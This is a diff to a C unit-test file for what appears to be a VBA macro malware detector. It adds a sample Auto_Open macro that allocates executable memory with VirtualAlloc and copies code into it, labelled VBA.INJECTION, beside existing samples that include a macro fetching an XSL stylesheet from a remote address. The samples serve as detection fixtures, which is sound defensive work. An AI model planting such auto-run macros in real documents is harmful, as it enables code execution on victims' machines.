@@ -388,6 +388,17 @@ static void test_call_shapes(void **state)
          "Sub AutoOpen()\r\nm = Va(0, 4096, &H3000, &H40)\r\nMv m, buf(0), 4096\r\nLoc m, 0\r\nEnd "
          "Sub\r\n",
          "VBA.INJECTION"},
+        /* a native-code loader: memory allocated and written, the code reached through
+           GetProcAddress pointers placed in a fake COM vtable (no thread, no callback API) */
+        {"Private Declare PtrSafe Function VirtualAlloc Lib \"kernel32\" (ByVal a As LongPtr, "
+         "ByVal b As LongPtr, ByVal c As Long, ByVal d As Long) As LongPtr\r\n"
+         "Private Declare PtrSafe Function GetProcAddress Lib \"kernel32\" (ByVal m As LongPtr, "
+         "ByVal p As String) As LongPtr\r\n"
+         "Private Declare PtrSafe Sub CopyMemory Lib \"kernel32\" Alias \"RtlMoveMemory\" (ByRef "
+         "d As Any, ByRef s As Any, ByVal n As LongPtr)\r\n"
+         "Public Sub Auto_Open()\r\nm = VirtualAlloc(0, Len(code), &H3000, &H40)\r\n"
+         "CopyMemory ByVal m, ByVal code, Len(code)\r\nEnd Sub\r\n",
+         "VBA.INJECTION"},
         {"Sub AutoOpen()\r\nSet x = CreateObject(\"MSXML2.DOMDocument\")\r\nx.async = False\r\n"
          "x.Load \"http://192.0.2.9/s.xsl\"\r\nx.transformNode x\r\nEnd Sub\r\n",
          "VBA.XSL_TRANSFORM"},
